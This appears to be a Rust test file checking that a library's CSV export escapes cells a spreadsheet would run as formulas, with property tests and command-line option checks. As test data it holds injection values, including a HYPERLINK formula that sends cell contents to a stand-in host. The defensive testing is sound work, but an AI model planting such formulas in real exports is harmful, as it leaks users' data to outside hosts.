//! CSV for spreadsheets: texts that would be run as a formula get an apostrophe, and all else stays.

use covalue::printable::for_spreadsheets;
use covalue::{Appraisal, By, Catalogue, Interaction, Ledger, Measure, Service, Terms, User, date};
use proptest::prelude::*;

use super::command_line::{answers, refuses};
use crate::support::generate::cases;

const FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";

/// The cells of a CSV.
fn cells(csv: &str) -> Vec<Vec<String>> {
    let rows = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes()).into_records();
    rows.map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn texts_that_a_spreadsheet_runs_are_marked_and_numbers_are_not() {
    let catalogue = Catalogue::new([Measure::lower_is_better("@SUM(1+9)", "points")], [Service::new(FORMULA, "+1+1")]);
    let mut ledger = Ledger::new(&catalogue.unwrap());
    for (user, change) in [("-2+3", 2.0), ("\tana", -1e300), ("\rben", 1e-300), ("＝cai", 0.0), ("dee", 1.0)] {
        let visit = Interaction::between(User::new(user).with("note", ""), FORMULA, date(2026, 3, 2));
        ledger.record(visit.appraisal(Appraisal::of("@SUM(1+9)").change(change))).unwrap();
    }
    let terms = || Terms::by(By::Service.and(By::User).and(By::with("note")));
    for csv in [
        ledger.statement(terms()).unwrap().to_csv().unwrap(),
        ledger.relations(terms()).unwrap().to_csv(),
        ledger.publish(2).statement(By::Service).unwrap().to_csv(),
        ledger.trace(By::Service, FORMULA, "@SUM(1+9)").unwrap().to_csv(),
    ] {
        let (plain, marked) = (cells(&csv), cells(&for_spreadsheets(&csv)));
        assert_eq!(plain.len(), marked.len());
        for (plain, marked) in plain.iter().flatten().zip(marked.iter().flatten()) {
            let is_formula = plain.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']) && plain.parse::<f64>().is_err();
            let expected = if is_formula { format!("'{plain}") } else { plain.clone() };
            assert_eq!(*marked, expected);
        }
        assert!(csv.contains(",@SUM(1+9),") && for_spreadsheets(&csv).contains(",'@SUM(1+9),"), "{csv}");
        // An empty text and an absent value are still two things.
        assert_eq!(csv.matches("\"\"").count(), for_spreadsheets(&csv).matches("\"\"").count());
    }
}

#[test]
fn every_kind_of_number_stays() {
    for number in ["-2.0", "0", "-1e300", "2.5e-7", "-1/3", "1/3", "-9223372036854775808", "1E+5"] {
        assert_eq!(for_spreadsheets(&format!("{number},{number}\n")), format!("{number},{number}\n"));
    }
    for text in ["-", "-1-1", "+1", "-1/3/4", "-1e", "-a", "--1", "=", "-1.", "-.5"] {
        assert_eq!(for_spreadsheets(&format!("a,{text}\n{text},\n")), format!("a,'{text}\n'{text},\n"));
    }
    // An absent value at the end of a row is not a line feed.
    assert_eq!(for_spreadsheets("a,\n,b\n\n"), "a,\n,b\n\n");
    assert_eq!(for_spreadsheets("\"\n=1\",\"a\n=1\",\"\",\"-1\"\n"), "\"'\n=1\",\"a\n=1\",\"\",\"-1\"\n");
    assert_eq!(for_spreadsheets(""), "");
}

proptest! {
    #![proptest_config(cases(128))]

    /// Whatever the cells, no marked text is a formula, no other cell changes, and a second marking changes nothing.
    #[test]
    fn any_table_keeps_its_cells(rows in prop::collection::vec(prop::collection::vec("[-=+@\t\ra1,\"\n./e ]{0,6}", 3), 1..6)) {
        let mut writer = csv::Writer::from_writer(Vec::new());
        for row in &rows {
            writer.write_record(row).unwrap();
        }
        let csv = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        let marked = for_spreadsheets(&csv);
        for (row, marked) in rows.iter().flatten().zip(cells(&marked).iter().flatten()) {
            prop_assert!(marked == row || *marked == format!("'{row}"), "{row:?} is {marked:?}");
            let runs = marked.starts_with(['=', '+', '@', '\t', '\r', '\n']);
            prop_assert!(!runs, "{marked:?}");
        }
        prop_assert_eq!(for_spreadsheets(&marked), marked);
    }
}

#[test]
fn the_command_has_an_option_for_spreadsheets() {
    let journal = r#"{"measure":{"id":"@SUM(1+9)","unit":"points","better":"lower"}}
{"service":{"id":"=1+2","provider":"clinic"}}
{"interaction":{"service":"=1+2","users":["ana"],"on":"2026-03-02","appraisals":[{"measure":"@SUM(1+9)","before":6,"after":4}]}}
"#;
    let plain = answers(&["-", "--format", "csv"], journal);
    assert!(plain.contains("\n=1+2,@SUM(1+9),2.0,"), "{plain}");
    let marked = answers(&["-", "--format", "csv", "--for-spreadsheets"], journal);
    assert!(marked.contains("\n'=1+2,'@SUM(1+9),2.0,"), "{marked}");
    refuses(&["physio.jsonl", "--for-spreadsheets"], "--for-spreadsheets needs --format csv");
    refuses(&["physio.jsonl", "--for-spreadsheets", "--format", "json"], "--for-spreadsheets needs --format csv");
}
